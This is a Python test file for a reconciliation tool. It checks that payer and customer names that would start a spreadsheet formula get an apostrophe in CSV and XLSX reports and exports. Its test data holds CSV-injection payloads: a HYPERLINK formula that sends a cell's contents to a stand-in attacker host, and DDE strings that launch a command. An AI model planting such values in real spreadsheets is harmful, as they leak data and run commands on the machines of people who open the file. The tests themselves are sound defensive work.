"""Payer text that would start a spreadsheet formula (CSV injection) is written as text in
the CSV and XLSX reports, and in CSV exports; amounts are left as they are."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from canonical.store import Store
from reconciler import reconcile
from reconciler.report import build_report, spreadsheet_text, write_report
from sync.export import write_export
from tests.reconciler.test_reconcile import Book

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def hostile_report(store: Store) -> dict[str, object]:
    book = Book(store)
    c = book.customer("Acme Corp")
    book.invoice(c, "1001", "100.00")
    book.pay("55.00", payer=HOSTILE, day=date(2026, 11, 3))
    reconcile(store)
    return build_report(store)


def test_formula_text_gets_an_apostrophe_and_amounts_do_not() -> None:
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0"
    assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_text("-12.50") == "-12.50"
    assert spreadsheet_text("-A1") == "'-A1"
    assert spreadsheet_text("Acme = best") == "Acme = best"
    assert spreadsheet_text(12) == 12


def test_the_csv_report_writes_a_hostile_payer_as_text(sqlite_store: Store, tmp_path: Path) -> None:
    path = write_report(hostile_report(sqlite_store), "csv", tmp_path / "r.csv")
    rows = list(csv.DictReader(path.open()))
    assert [r["payer"] for r in rows] == ["'" + HOSTILE]
    assert rows[0]["amount"] == "55.00"


def test_the_xlsx_report_keeps_a_hostile_payer_a_string(
    sqlite_store: Store, tmp_path: Path
) -> None:
    path = write_report(hostile_report(sqlite_store), "xlsx", tmp_path / "r.xlsx")
    sheet = load_workbook(path)["Remittances"]
    payer = sheet.cell(row=2, column=2)
    assert payer.value == HOSTILE and payer.data_type == "s"


def test_a_csv_export_writes_a_hostile_customer_name_as_text(sqlite_store: Store) -> None:
    Book(sqlite_store).customer("=cmd|' /C calc'!A0")
    out = io.StringIO()
    write_export(sqlite_store, "customers", "csv", out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["name"] == "'=cmd|' /C calc'!A0"
